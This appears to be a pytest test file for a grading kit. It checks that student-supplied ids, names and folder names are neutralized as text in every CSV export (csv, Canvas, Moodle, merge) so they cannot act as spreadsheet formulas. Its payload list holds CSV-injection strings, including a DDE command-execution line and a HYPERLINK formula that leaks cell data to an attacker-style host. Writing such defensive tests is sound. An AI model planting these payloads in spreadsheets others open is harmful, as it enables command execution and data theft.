"""No text a student chose (a student id, a folder name, a name in the roster) reaches a CSV file
of the kit as a spreadsheet formula (OWASP, "CSV Injection"): every format the kit writes,
with the classic payloads, in the Student, SIS User ID and SIS Login ID columns too."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from descent.commands import main
from descent.course import assignbook
from descent.course.gradebook import Gradebook
from descent.course.runner import Outcome
from descent.reports import spreadsheet

from .test_term import DUE, PLAN, write_plan
from .test_term_tooling import results_doc

pytestmark = pytest.mark.fast  # the fast lane: ./dev test --fast

PAYLOADS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"grades")',
    "\t=1+2",
    "\r=1+2",
    # issue 49: blanks before the formula, a fullwidth equals sign, a tab inside
    " =1+2",
    "\u00a0=1+2",
    "\u3000=1+2",
    "\u2003@SUM(1)",
    "\u200b+1+1",
    "\uff1d1+2",
    "ann\t=1+2",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as handle:  # keep a \r inside a cell
        return list(csv.reader(handle))


def _dangerous(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet could evaluate, however it trims and splits: a part (the whole cell,
    or a piece between tabs) that starts with a trigger once blanks and invisible characters
    are passed over, and is not a plain number."""
    found = []
    for row in rows:
        for c in row:
            for part in c.split("\t"):
                bare = part.lstrip("".join(chr(n) for n in range(0x21) if chr(n) != "\t"))
                bare = bare.lstrip("\u00a0\u2000\u2001\u2002\u2003\u3000\u200b\ufeff")
                if bare.startswith(TRIGGERS) and not spreadsheet._NUMBER.fullmatch(bare):
                    found.append(c)
    return found


def _neutral(payload: str) -> str:
    """How the kit writes a payload: a quote in front, and in front of a part after a tab that
    would start a formula where tabs separate cells."""
    return "'" + payload.replace("\t=", "\t'=")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_rule_on_one_cell(payload):
    written = next(csv.reader(io.StringIO(spreadsheet.render([[payload]]))))[0]
    # neutralized, and the text kept whole after the quote (a part after a tab that would
    # start a formula where tabs separate cells gets its own quote)
    assert written == _neutral(payload)
    assert _dangerous([[written]]) == [] and _dangerous([[payload]]) == [payload]


def test_libreoffice_reads_every_cell_as_text(tmp_path):
    """The real reader: LibreOffice Calc, headless, opens the file with commas or tabs as the
    separator, with and without "trim spaces", evaluating formulas. Each cell the kit writes is
    read as text; the same payloads written by a plain CSV writer give formulas (the check has
    teeth)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    kit = tmp_path / "kit.csv"
    kit.write_text(spreadsheet.render([[p] for p in PAYLOADS]), encoding="utf-8")
    plain = tmp_path / "plain.csv"
    with open(plain, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows([[p.strip()] for p in PAYLOADS])
    formulas = {}
    for name in ("kit", "plain"):
        for separator, trim in ((44, "false"), (44, "true"), (9, "false"), (9, "true")):
            source = tmp_path / f"{name}-{separator}-{trim}.csv"
            shutil.copy(tmp_path / f"{name}.csv", source)
            # CSV filter options: separator, text delimiter ("), UTF-8, first line, column
            # types, language, quoted as text, special numbers, (export x2), trim spaces,
            # (export), evaluate formulas
            options = f"CSV:{separator},34,76,1,,0,false,true,false,false,{trim},-1,true"
            profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
            subprocess.run(
                [soffice, profile, "--headless", f"--infilter={options}", "--convert-to",
                 "fods", "--outdir", str(tmp_path), str(source)],
                capture_output=True, timeout=300, check=True,
            )  # fmt: skip
            flat = source.with_suffix(".fods").read_text(encoding="utf-8")
            formulas[(name, separator, trim)] = re.findall(r'table:formula="([^"]*)"', flat)
    assert all(not found for (name, *_), found in formulas.items() if name == "kit"), formulas
    assert any(found for (name, *_), found in formulas.items() if name == "plain"), formulas


def test_numbers_stay_numbers_and_plain_text_stays_bare():
    # only text cells are neutralized: a negative penalty is a number a spreadsheet can add up
    assert spreadsheet.render([[-5, -5.0, "-5", "-2.5", 12.5, "ann", "Doe, Ann", None]]) == (
        '-5,-5.0,-5,-2.5,12.5,ann,"Doe, Ann",\n'
    )
    # a separator inside a cell is quoted, so no part of it can begin a cell of its own
    assert spreadsheet.render([["x;=1+2"]]) == '"x;=1+2"\n'
    assert spreadsheet.neutralized([["=1+2", "-5", "ann"]]) == ["=1+2"]


def _ids() -> list[str]:
    """One roster id per payload: the payload and its number (the roster's cells are read
    without surrounding blanks, so ``\t=1+2`` alone would be ``=1+2`` a second time)."""
    return [f"{payload}{n}" for n, payload in enumerate(PAYLOADS)]


def _term(tmp_path: Path) -> tuple[Path, Path]:
    """A plan whose roster holds one student per payload (in the id, the last name and the
    SIS login), each graded on a1."""
    path = write_plan(tmp_path, PLAN)
    lines = ["id,first_name,last_name,email,section,sis_login_id"]
    for n, (ident, payload) in enumerate(zip(_ids(), PAYLOADS)):
        quoted, named = ('"' + v.replace('"', '""') + '"' for v in (payload, ident))
        lines.append(f"{named},{quoted},{quoted},s{n}@example.edu,S1,{named}")
    (tmp_path / "roster.csv").write_text("\n".join(lines) + "\n", newline="")
    (tmp_path / "extensions.csv").write_text("student,assignment,due\n")
    on_time = DUE.isoformat()
    with Gradebook(tmp_path / "gb.sqlite") as book:
        assignbook.write(
            book,
            [
                assignbook.Grade(
                    i.strip(), "a1", None, "h", on_time, "manifest", "graded", 10, 20, 0, 0, "", 10
                )
                for i in _ids()
            ],
        )
    return path, tmp_path / "gb.sqlite"


@pytest.mark.parametrize("fmt", ["csv", "canvas", "moodle"])
def test_descent_grades_files(tmp_path, fmt, capsys):
    path, book = _term(tmp_path)
    out = tmp_path / f"{fmt}.csv"
    argv = ["grades", "--plan", str(path), "--gradebook", str(book), "--at", "2027-02-01T00:00"]
    assert main(argv + ["--format", fmt, "--out", str(out)]) == 0
    rows = _cells(out)
    assert _dangerous(rows) == []
    written = {c for row in rows for c in row}
    # each payload is there, as text (the roster's cells are read without surrounding blanks)
    assert all(_neutral(i.strip()) in written for i in _ids())
    if fmt == "canvas":  # Student (Last, First), SIS User ID and SIS Login ID
        first = next(r for r in rows[2:] if r[2] == "'=1+20")
        assert first[0] == "'=1+2, =1+2" and first[3] == "'=1+20"
    assert "starts like a spreadsheet formula" in capsys.readouterr().out


def _doc(name: str) -> dict:
    doc = results_doc(name, "losses.mse", 5.0)
    doc["implementations"][0]["exercises"][0]["first_failure"] = "=1+2 went wrong"
    return doc


def test_descent_export_of_results_files(tmp_path):
    paths = []
    for n, payload in enumerate(PAYLOADS):
        paths.append(tmp_path / f"r{n}.json")
        paths[-1].write_text(json.dumps(_doc(payload)))
    out = tmp_path / "export.csv"
    assert main(["export", *map(str, paths), "--format", "csv", "--out", str(out)]) == 0
    rows = _cells(out)
    assert _dangerous(rows) == [] and [r[0] for r in rows[1:]] == [_neutral(p) for p in PAYLOADS]


def test_descent_export_from_the_gradebook(tmp_path):
    """Student ids come from folder names: ``=HYPERLINK(...).zip`` is a student."""
    with Gradebook(tmp_path / "gb.sqlite") as book:
        for payload in PAYLOADS:
            doc = _doc(payload)
            book.record(
                Outcome(payload, f"/subs/{payload}", "graded", results=doc, content_hash="h"),
                source=f"/subs/{payload}.zip",
                submitted=0,
                superseded=[],
            )
    out = tmp_path / "export.csv"
    book_path = str(tmp_path / "gb.sqlite")
    assert main(["export", "--gradebook", book_path, "--format", "csv", "--out", str(out)]) == 0
    rows = _cells(out)
    assert _dangerous(rows) == [] and len(rows) == len(PAYLOADS) + 1


def test_descent_gradebook_merge(tmp_path):
    grades = tmp_path / "grades.csv"
    lines = ["assignment,duedate,timestamp,student_id,raw_score,score,max_score"]
    for payload in PAYLOADS:
        quoted = '"' + payload.replace('"', '""') + '"'
        lines.append(f"lab1,,2027-01-01 10:00:00,{quoted},5,5,10")
    grades.write_text("\n".join(lines) + "\n", newline="")
    out = tmp_path / "merged.csv"
    each = tmp_path / "each"
    argv = ["gradebook", "merge", "--grades", str(grades), "--out", str(out)]
    assert main(argv + ["--per-student", str(each)]) == 0
    rows = _cells(out)
    assert _dangerous(rows) == [] and sorted(r[0] for r in rows[1:]) == sorted(
        _neutral(p) for p in PAYLOADS
    )
